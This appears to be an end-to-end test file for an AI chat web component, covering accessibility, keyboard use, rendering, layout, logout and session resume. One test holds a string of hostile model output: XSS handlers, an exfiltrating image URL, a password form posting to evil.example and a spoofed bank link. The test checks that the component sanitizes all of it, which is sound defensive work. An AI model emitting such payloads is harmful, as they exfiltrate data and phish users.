import { type MessagePart, newId } from '@diosc/protocol';
import axe from 'axe-core';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { accepted, answer, sessionFrame, userMessage } from '../../packages/client/test/fake-hub.ts';
import { bundleAssistantKit } from '../../packages/element/scripts/bundle.ts';
import { ChatPage, type ChatPageOptions, JOHN, stream } from './chat-page.ts';
import { ask, CHAT_STATES, deltas, RICH_ANSWER } from './chat-states.ts';
import { keepScreenshotOfFailure, launchBrowser } from './launch-browser.ts';

const RULES = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'];
const violationsSchema = z.object({
  violations: z.array(z.object({ id: z.string(), nodes: z.array(z.object({ html: z.string(), failureSummary: z.string().optional() })) })),
});

let browser: Browser;
let opened: ChatPage | undefined;

beforeAll(async () => {
  await bundleAssistantKit();
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser.close();
});

afterEach(async (context) => {
  await keepScreenshotOfFailure(context, opened?.page);
  await opened?.close();
  opened = undefined;
});

async function open(options: ChatPageOptions = { attributes: ' open' }): Promise<ChatPage> {
  opened = await ChatPage.open(browser, options);
  return opened;
}

/** What axe finds wrong with the element, in a readable form. */
async function violations(page: Page): Promise<string[]> {
  await page.evaluate(axe.source);
  const found: unknown = await page.evaluate(`axe.run('diosc-chat', { runOnly: ${JSON.stringify(RULES)} })`);
  return violationsSchema
    .parse(found)
    .violations.map(({ id, nodes }) => `${id}: ${nodes.map((node) => `${node.html} ${node.failureSummary ?? ''}`).join('\n')}`);
}

/** Reads something of the element's own tree, which scripts of the page can reach but its styles cannot. */
function inside<Value>(page: Page, expression: string, schema: z.ZodType<Value>): Promise<Value> {
  return page
    .evaluate(`(() => { const root = document.querySelector('diosc-chat').shadowRoot; return ${expression}; })()`)
    .then((value) => schema.parse(value));
}

describe.each(['light', 'dark'] as const)('in the %s theme', (colorScheme) => {
  it.each(CHAT_STATES.map((state) => [state.name, state] as const))(
    '%s shows what it is about, is accessible and breaks no policy [UI-01]',
    async (_name, state) => {
      const chat = await open({ ...state.options, context: { colorScheme, reducedMotion: 'reduce' } });
      const { page, complaints } = chat;
      await state.arrive(chat);
      await page.getByText(state.shows).first().waitFor();
      expect(await violations(page)).toEqual([]);
      expect(complaints).toEqual([]);
    },
  );
});

describe('with the keyboard alone', () => {
  it('the chat is opened, used and closed [UI-01]', async () => {
    const chat = await open({});
    const { page } = chat;
    const { connection } = await chat.session();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Tab');
    const launcher = page.getByRole('button', { name: 'Open the chat with Acme Assistant' });
    await expect.poll(() => launcher.evaluate((element) => element.matches(':focus-visible'))).toBe(true);
    await page.keyboard.press('Enter');
    const field = page.getByRole('textbox', { name: 'Ask Acme Assistant' });
    await expect.poll(() => field.evaluate((element) => element.matches(':focus'))).toBe(true);

    await page.keyboard.type('First line');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('second line');
    await page.keyboard.press('Enter');
    expect((await connection.next('message')).text).toBe('First line\nsecond line');
    expect(await field.inputValue()).toBe('');

    await page.keyboard.press('Escape');
    await expect.poll(() => launcher.evaluate((element) => element.matches(':focus'))).toBe(true);
    expect(await field.count()).toBe(0);
  });

  it('a slash goes to the message field, a question mark shows the shortcuts, and Escape closes those first [UI-01]', async () => {
    const chat = await open();
    const { page } = chat;
    await chat.session({ resumed: true, messages: [userMessage('Hello')] });
    const field = page.getByRole('textbox');
    const log = page.getByRole('log');
    await log.focus();
    await page.keyboard.press('/');
    await expect.poll(() => field.evaluate((element) => element.matches(':focus'))).toBe(true);
    expect(await field.inputValue()).toBe('');
    await page.keyboard.type('/?');
    expect(await field.inputValue()).toBe('/?');

    await log.focus();
    await page.keyboard.press('?');
    await page.getByText('Keyboard shortcuts').waitFor();
    expect(await violations(page)).toEqual([]);
    await page.keyboard.press('Escape');
    await page.getByText('Keyboard shortcuts').waitFor({ state: 'detached' });
    expect(await field.count()).toBe(1);
  });

  it('a call is opened, a code is copied and the answer is stopped [UI-01]', async () => {
    const chat = await open({ attributes: ' open', context: { permissions: ['clipboard-read', 'clipboard-write'] } });
    const { page } = chat;
    const { message, connection } = await ask(chat, 'go');
    await stream(page, connection, deltas(message, 0, 'Run `this`:\n\n```sh\nls -l\n```\n\nThen wait'));
    await page.getByRole('button', { name: 'Copy' }).focus();
    await page.keyboard.press('Enter');
    await page.getByText('Copied').waitFor();
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('ls -l');
    await page.getByRole('button', { name: 'Stop the answer' }).focus();
    await page.keyboard.press('Enter');
    await connection.next('cancel');
  });
});

describe('what a model writes', () => {
  const HOSTILE = `![logo](https://evil.example/pixel.png?secret=42) ![](//evil.example/2.png) <img src="https://evil.example/3.png" onerror="alert(1)">
<script>alert(1)</script><style>*{display:none}</style><form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
[run](javascript:alert(1)) [data](data:text/html,x) [relative](/logout) <https://evil.example/auto> [https://bank.example](https://evil.example)
[1]: https://evil.example/reference.png
![reference][1] <svg onload="alert(1)"><image href="https://evil.example/4.png"/></svg> <link rel="stylesheet" href="https://evil.example/x.css">`;

  it('loads nothing, runs nothing and becomes no form, image or style [UI-01]', async () => {
    const chat = await open();
    const { page, requests, complaints } = chat;
    const { message, connection } = await ask(chat, 'go');
    await stream(page, connection, deltas(message, 0, HOSTILE, 7));
    connection.send({ type: 'stream.end', message: { ...message, status: 'complete', parts: [{ type: 'text', text: HOSTILE }] } });
    await page.getByRole('button', { name: 'Send' }).waitFor();

    const selector =
      'img, picture, video, audio, object, embed, iframe, script, style, link, form:not(.composer), .markdown input, [style], [onload], [onerror]';
    expect(
      await inside(page, `[...root.querySelectorAll('${selector}')].map((element) => element.outerHTML)`, z.array(z.string())),
    ).toEqual([]);
    const links = await inside(
      page,
      `[...root.querySelectorAll('.markdown a')].map(({ href, rel, target }) => ({ href, rel, target }))`,
      z.array(z.record(z.string(), z.string())),
    );
    expect(links.map(({ href }) => href)).toEqual([
      'https://evil.example/pixel.png?secret=42',
      'https://evil.example/auto',
      'https://evil.example/',
      'https://evil.example/reference.png',
    ]);
    expect(links.every(({ rel, target }) => target === '_blank' && rel === 'noopener noreferrer nofollow ugc')).toBe(true);
    await page.getByText('image at evil.example').first().waitFor();
    await page.getByText('https://bank.example (evil.example)').waitFor();
    expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('is drawn as tables, lists, code and links, and nothing of it widens the chat [UI-01]', async () => {
    const chat = await open({ attributes: ' open', context: { viewport: { width: 320, height: 560 } } });
    const { page } = chat;
    const wide = `${RICH_ANSWER}\n\n${'unbreakable'.repeat(30)}\n\n| ${'column | '.repeat(12)}\n|${'---|'.repeat(12)}\n| ${'cell cell | '.repeat(12)}`;
    const parts: MessagePart[] = [{ type: 'text', text: wide }];
    await chat.session({ resumed: true, messages: [userMessage('w'.repeat(400)), answer({ status: 'complete', parts })] });
    await page.getByRole('table').first().waitFor();
    expect(await page.getByRole('columnheader').first().textContent()).toBe('Order');
    expect(await page.getByRole('listitem').count()).toBe(3);
    const overflow = await inside(
      page,
      `[...root.querySelectorAll('.panel, .messages, .answer')].map((box) => box.scrollWidth - box.clientWidth)`,
      z.array(z.number()),
    );
    expect(overflow.every((pixels) => pixels <= 0)).toBe(true);
    expect(await violations(page)).toEqual([]);
  });

  it('is drawn once while it streams: what is settled keeps its elements and its selection [UI-01]', async () => {
    const chat = await open();
    const { page } = chat;
    const { message, connection } = await ask(chat, 'go');
    const text = 'First paragraph.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nThird paragraph that goes on';
    await stream(page, connection, deltas(message, 0, text));
    await page.getByText('Third paragraph').waitFor();
    await page.evaluate(`{
      const root = document.querySelector('diosc-chat').shadowRoot;
      globalThis.kept = [...root.querySelectorAll('.markdown > p, .markdown table')];
      globalThis.changes = [];
      new MutationObserver((records) => changes.push(...records.map(({ target }) => target.textContent))).observe(root.querySelector('.markdown > p'), { childList: true, characterData: true, subtree: true });
    }`);
    const rest = ' and on. It ends.';
    await stream(page, connection, [{ type: 'stream.delta', messageId: message.id, index: 0, offset: text.length, delta: rest }]);
    await page.getByText('It ends.').waitFor();
    connection.send({ type: 'stream.end', message: { ...message, status: 'complete', parts: [{ type: 'text', text: text + rest }] } });
    await page.getByRole('button', { name: 'Send' }).waitFor();
    const isKept = `globalThis.kept.length === 3 && [...root.querySelectorAll('.markdown > p, .markdown table')].every((element, index) => element === globalThis.kept[index])`;
    expect(await inside(page, isKept, z.boolean())).toBe(true);
    expect(await page.evaluate('globalThis.changes')).toEqual([]);
  });
});

describe('who listens', () => {
  it('hears whole sentences of a streaming answer, each once, and no history [UI-01]', async () => {
    const chat = await open();
    const { page } = chat;
    const history = answer({ status: 'complete', parts: [{ type: 'text', text: 'This was said yesterday.' }] });
    const { connection } = await chat.session({ resumed: true, messages: [userMessage('x'), history] });
    await page.getByText('This was said yesterday.').waitFor();
    await page.evaluate(`{
      globalThis.heard = [];
      const region = document.querySelector('diosc-chat').shadowRoot.querySelector('[aria-live=polite]');
      new MutationObserver(() => heard.push(region.textContent.trim())).observe(region, { childList: true, characterData: true, subtree: true });
    }`);
    const message = answer();
    connection.send({ type: 'stream.start', message });
    const text = 'You have **three** orders. The first is [1042](https://shop.example/1042). And';
    await stream(page, connection, deltas(message, 0, text, 5));
    const heard = () => expect.poll(() => page.evaluate('globalThis.heard.join(" ")'), { timeout: 10_000 });
    await heard().toBe('You have three orders. The first is 1042.');
    connection.send({ type: 'stream.end', message: { ...message, status: 'complete', parts: [{ type: 'text', text: `${text} more` }] } });
    await heard().toBe('You have three orders. The first is 1042. And more');
    expect(await page.getByRole('log').getAttribute('aria-live')).toBe('off');
  });
});

describe('the page around', () => {
  it('is not moved by the chat, closed or open [UI-01]', async () => {
    const chat = await open({});
    const { page } = chat;
    const shifts = `new Promise((resolve) => new PerformanceObserver((list) => resolve(list.getEntries().length)).observe({ type: 'layout-shift', buffered: true }) ?? setTimeout(() => resolve(0), 300))`;
    const box = () => page.locator('main').boundingBox();
    const before = await box();
    await chat.session();
    await page.getByRole('button', { name: /Open the chat/ }).click();
    await page.getByRole('dialog').waitFor();
    expect(await box()).toEqual(before);
    expect(await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth')).toBe(0);
    expect(await page.evaluate(shifts)).toBe(0);
  });

  it('shares its diosc with the element [UI-01]', async () => {
    const chat = await open({});
    const { page } = chat;
    const { connection } = await chat.session();
    await page.evaluate(`void diosc('send', 'from the page')`);
    await page.evaluate(`diosc('ui', 'open')`);
    const frame = await connection.next('message');
    connection.send(accepted(frame.clientMessageId, frame.text, newId('message')));
    await page.getByText('from the page').waitFor();
    await page.evaluate(`diosc('ui', 'toggle')`);
    await page.getByRole('dialog').waitFor({ state: 'detached' });
  });

  it('gets the calls that it made before the script had loaded [UI-01]', async () => {
    const early = `globalThis.diosc ??= (...call) => void (diosc.q ??= []).push(call); diosc('on', 'connected', () => { globalThis.early = true; }); ${JOHN}`;
    const chat = await open({ attributes: ' open', auth: null, early });
    const { page } = chat;
    await chat.session();
    await page.getByText('What would you like to know?').waitFor();
    expect(await page.evaluate('globalThis.early')).toBe(true);
  });

  it('sets the look by custom properties, and leaves the rest to the preference [UI-01]', async () => {
    const chat = await open({ attributes: ' open', context: { colorScheme: 'dark' } });
    const { page } = chat;
    await chat.session();
    await page.getByRole('dialog').waitFor();
    const look = `(({ backgroundColor, color, inlineSize, blockSize }) => ({ backgroundColor, color, inlineSize, blockSize }))(getComputedStyle(root.querySelector('.panel')))`;
    const schema = z.record(z.string(), z.string());
    expect(await inside(page, look, schema)).toMatchObject({ backgroundColor: 'rgb(14, 20, 23)', inlineSize: '400px', blockSize: '600px' });
    await page.emulateMedia({ colorScheme: 'light' });
    await expect.poll(() => inside(page, look, schema)).toMatchObject({ backgroundColor: 'rgb(255, 255, 255)', color: 'rgb(0, 0, 0)' });

    const names = [
      '--background-color: #102030',
      '--text-color: #f0f0f0',
      '--chat-width: 320px',
      '--chat-max-height: 500px',
      '--primary-color: #ffd400',
    ];
    await page.evaluate(`document.querySelector('diosc-chat').style.cssText = ${JSON.stringify(names.join(';'))}`);
    await expect
      .poll(() => inside(page, look, schema))
      .toMatchObject({
        backgroundColor: 'rgb(16, 32, 48)',
        color: 'rgb(240, 240, 240)',
        inlineSize: '320px',
        blockSize: '500px',
      });
    expect(await inside(page, `root.querySelector('.root').classList.contains('dark')`, z.boolean())).toBe(true);
    expect(await violations(page)).toEqual([]);
  });

  it.each([
    ['right to left', { htmlAttributes: ' lang="ar" dir="rtl"' }],
    ['320 pixels wide', { context: { viewport: { width: 320, height: 480 } } }],
    ['zoomed to 200 %', { context: { viewport: { width: 640, height: 400 }, deviceScaleFactor: 2 } }],
    ['in German', { attributes: ' open locale="de"' }],
  ] satisfies [string, ChatPageOptions][])('may be %s [UI-01]', async (_what, options) => {
    const chat = await open({ attributes: ' open', ...options });
    const { page, complaints } = chat;
    const parts: MessagePart[] = [{ type: 'text', text: RICH_ANSWER }];
    await chat.session({ resumed: true, messages: [userMessage('Orders?'), answer({ status: 'complete', parts })] });
    await page.getByText('three pending orders').waitFor();
    const { width = 0, height = 0 } = page.viewportSize() ?? {};
    const panel = await page.getByRole('dialog').boundingBox();
    expect(panel !== null && panel.x >= 0 && panel.y >= 0 && panel.x + panel.width <= width && panel.y + panel.height <= height).toBe(true);
    expect(await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth')).toBe(0);
    expect(await page.getByRole('textbox').isVisible()).toBe(true);
    expect(await violations(page)).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('whose user wants no motion gets none [UI-01]', async () => {
    const chat = await open({ attributes: ' open', context: { reducedMotion: 'reduce' } });
    const { page } = chat;
    await ask(chat, 'go');
    await page.getByText('Thinking').waitFor();
    expect(await inside(page, 'root.getAnimations().length', z.number())).toBe(0);
  });
});

describe('what the user wrote', () => {
  it('comes back to where it was written when the hub refuses it [UI-01]', async () => {
    const chat = await open();
    const { page } = chat;
    const { connection } = await chat.session();
    const field = page.getByRole('textbox');
    await field.fill('Not so fast');
    await field.press('Enter');
    const { clientMessageId } = await connection.next('message');
    connection.send({
      type: 'error',
      code: 'RATE_LIMITED',
      message: 'Wait a minute.',
      retryable: true,
      requestId: newId('request'),
      clientMessageId,
    });
    await page.getByText('Wait a minute.').waitFor();
    expect(await field.inputValue()).toBe('Not so fast');
  });

  it('stays where it is while an answer runs [UI-01]', async () => {
    const chat = await open();
    const { page } = chat;
    const { connection } = await ask(chat, 'first');
    const field = page.getByRole('textbox');
    await field.fill('second');
    await field.press('Enter');
    await page.getByText('The assistant is still answering.').waitFor();
    expect(await field.inputValue()).toBe('second');
    expect(connection.received.filter(({ type }) => type === 'message')).toHaveLength(1);
  });

  it('is asked when it is a suggestion of the page [UI-01]', async () => {
    const chat = await open({ attributes: ' open', content: '<button slot="suggestions"> Show my <b>pending</b> orders </button>' });
    const { page } = chat;
    const { connection } = await chat.session();
    await page.getByText('pending').click();
    expect((await connection.next('message')).text).toBe('Show my pending orders');
  });

  it('is asked again after a failure that may pass [UI-01]', async () => {
    const chat = await open();
    const { page } = chat;
    const notice: MessagePart = { type: 'notice', code: 'MODEL_UNAVAILABLE', text: 'The model was away.', retryable: true };
    const messages = [userMessage('How many?'), answer({ status: 'failed', parts: [notice] })];
    const { connection } = await chat.session({ resumed: true, messages });
    await page.getByRole('button', { name: 'Ask again' }).click();
    expect((await connection.next('message')).text).toBe('How many?');
  });

  it('is not there for the next user to read', async () => {
    const chat = await open();
    const { page } = chat;
    const { connection } = await chat.session({ resumed: true, messages: [userMessage('My salary?')] });
    await page.getByText('My salary?').waitFor();
    await page.getByRole('textbox').fill('and my bonus');
    await page.evaluate(`void diosc('auth', {headers: {authorization: 'Bearer carol'}, userId: 'carol', tenantId: 'globex'})`);
    await page.getByText('My salary?').waitFor({ state: 'detached' });
    await connection.next('auth');
    connection.send(sessionFrame({ user: { userId: 'carol', tenantId: 'globex', verified: true, displayName: 'Carol' }, role: null }));
    await page.getByText('Acting as Carol').waitFor();
    expect(await page.getByRole('textbox').inputValue()).toBe('');
  });
});

describe('logging out', () => {
  it('leaves nothing on the screen, and says how to go on [BYOA-06]', async () => {
    const chat = await open();
    const { page } = chat;
    const { connection } = await chat.session({ resumed: true, messages: [userMessage('My salary?')] });
    await page.getByText('My salary?').waitFor();
    await page.evaluate(`void diosc('auth', null)`);
    await page.getByText('Sign in to start').waitFor();
    await connection.next('logout');
    expect(await page.getByText('My salary?').count()).toBe(0);
    expect(await page.getByText('Acting as').count()).toBe(0);
    expect(await page.evaluate('sessionStorage.length')).toBe(0);
  });
});

describe('a reload of the page', () => {
  it('shows the conversation as it was, and the answer goes on [SESSION-02]', async () => {
    const chat = await open();
    const { page, hub } = chat;
    const { message, connection } = await ask(chat, 'orders');
    await stream(page, connection, deltas(message, 0, 'You have three '));
    await page.getByText('You have three').waitFor();
    await page.reload();
    const again = await hub.connection();
    const { session } = await again.next('auth');
    expect(session?.key).toBe('key-of-the-session');
    const soFar = { ...message, parts: [{ type: 'text' as const, text: 'You have three pend' }] };
    again.send(
      sessionFrame({
        session: { id: session?.id ?? newId('session'), startedAt: message.createdAt },
        resumed: true,
        messages: [userMessage('orders'), soFar],
      }),
    );
    await stream(page, again, [{ type: 'stream.delta', messageId: message.id, index: 0, offset: 12, delta: 'ee pending orders.' }]);
    await page.getByText('You have three pending orders.', { exact: true }).waitFor();
  });

  it('is not needed after a lost connection: nothing is shown twice or missing [SESSION-02]', async () => {
    const chat = await open();
    const { page, hub } = chat;
    const { message, connection } = await ask(chat, 'orders');
    await stream(page, connection, deltas(message, 0, 'You have three '));
    await page.getByText('You have three').waitFor();
    connection.cut();
    const again = await hub.connection();
    const { session } = await again.next('auth');
    const soFar = { ...message, parts: [{ type: 'text' as const, text: 'You have three pend' }] };
    again.send(
      sessionFrame({
        session: { id: session?.id ?? newId('session'), startedAt: message.createdAt },
        resumed: true,
        messages: [userMessage('orders'), soFar],
      }),
    );
    await stream(page, again, [{ type: 'stream.delta', messageId: message.id, index: 0, offset: 12, delta: 'ee pending orders.' }]);
    await page.getByText('You have three pending orders.', { exact: true }).waitFor();
    expect(await page.getByText('orders', { exact: true }).count()).toBe(1);
  });
});
